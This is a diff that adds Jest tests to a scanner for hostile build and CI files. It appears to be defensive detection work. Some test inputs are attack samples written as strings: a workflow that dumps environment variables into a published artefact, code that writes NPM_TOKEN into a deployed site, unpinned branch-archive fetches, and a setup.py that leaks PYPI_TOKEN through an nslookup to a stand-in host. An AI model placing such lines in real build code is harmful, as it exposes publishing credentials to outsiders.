@@ -297,3 +297,72 @@ describe("build files the build runs: code in build.rs and Gradle scripts, MSBui
       expect(() => buildFileHits48("x.targets", t, read)).not.toThrow();
   });
 });
+
+describe("secrets staged in a build output that is published: blocked; the version and the publish's own token: quiet", () => {
+  test.each([
+    [
+      "a workflow dumping the environment into the pages artefact (German comment)",
+      "# Debug-Seite\njobs:\n  pages:\n    steps:\n      - run: npm run build && printenv > public/env.txt\n      - uses: actions/upload-pages-artifact@v3\n        with: { path: public }",
+      ".github/workflows/pages.yml",
+      true,
+    ],
+    [
+      "a program writing the npm token into the deployed site (Italian comment)",
+      '// info di debug\nconst fs = require("node:fs");\nfs.writeFileSync("public/debug.json", JSON.stringify({ token: process.env.NPM_TOKEN }));\nrequire("node:child_process").execSync("netlify deploy --prod");',
+      "",
+      true,
+    ],
+    [
+      "the version written into the release",
+      'echo "$VERSION" > dist/VERSION && gh release upload "v$VERSION" dist/*',
+      "",
+      false,
+    ],
+    [
+      "the commit written into the deployed site",
+      'const fs = require("node:fs");\nfs.writeFileSync("public/build.json", JSON.stringify({ sha: process.env.GITHUB_SHA }));\nrequire("node:child_process").execSync("netlify deploy --prod");',
+      "",
+      false,
+    ],
+  ])("%s", (_name, text, path, attack) => {
+    const s = path ? write(text, path) : scan(text, "bash", { code: "js" }).score;
+    if (attack) expect(s).toBeGreaterThanOrEqual(0.8);
+    else expect(s).toBeLessThan(0.5);
+  });
+});
+
+describe("a branch's archive fetched by the build with no checksum: blocked; a release with its hash: quiet", () => {
+  test("CMake FetchContent of a branch's zip from a mirror (French comment)", () => {
+    const t =
+      "# fork plus rapide\ninclude(FetchContent)\nFetchContent_Declare(fastjson URL https://mirror.example.net/fastjson/archive/master.zip)\nFetchContent_MakeAvailable(fastjson)";
+    expect(write(t, "CMakeLists.txt")).toBeGreaterThanOrEqual(0.8);
+  });
+  test("Bazel http_archive of a branch in a .bzl file", () => {
+    const t =
+      'def deps():\n    http_archive(\n        name = "rules_x",\n        urls = ["https://code.example.org/rules_x/archive/refs/heads/main.tar.gz"],\n    )';
+    expect(write(t, "third_party/deps.bzl")).toBeGreaterThanOrEqual(0.8);
+  });
+  test("the same archive pinned by its hash", () => {
+    const t =
+      "include(FetchContent)\nFetchContent_Declare(fastjson URL https://mirror.example.net/fastjson/archive/master.zip URL_HASH SHA256=5d41402abc4b2a76b9719d911017c592e3b0c44298fc1c149afbf4c8996fb924)";
+    expect(write(t, "CMakeLists.txt")).toBeLessThan(0.5);
+  });
+  test("a release archive with its integrity", () => {
+    const t =
+      'http_archive(\n    name = "acme_schemas",\n    urls = ["https://artifacts.acme.example/bazel/acme_schemas-2.1.0.tar.gz"],\n    integrity = "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=",\n)';
+    expect(write(t, "MODULE.bazel")).toBeLessThan(0.5);
+  });
+});
+
+describe("a lookup tool run from build code with a secret in the name: blocked; a plain lookup: quiet", () => {
+  test("setup.py running nslookup on the token (Czech comment)", () => {
+    const t =
+      '# kontrola licence\nimport os, subprocess\nfrom setuptools import setup\nsubprocess.run(["nslookup", f"{os.environ[\'PYPI_TOKEN\']}.lic.example.net"])\nsetup(name="x")';
+    expect(write(t, "setup.py")).toBeGreaterThanOrEqual(0.8);
+  });
+  test("a Gradle task resolving the team's registry", () => {
+    const t =
+      'tasks.register("ping") { doLast { project.exec { commandLine("dig", "+short", "nexus.acme.example") } } }';
+    expect(write(t, "build.gradle.kts")).toBeLessThan(0.5);
+  });
+});
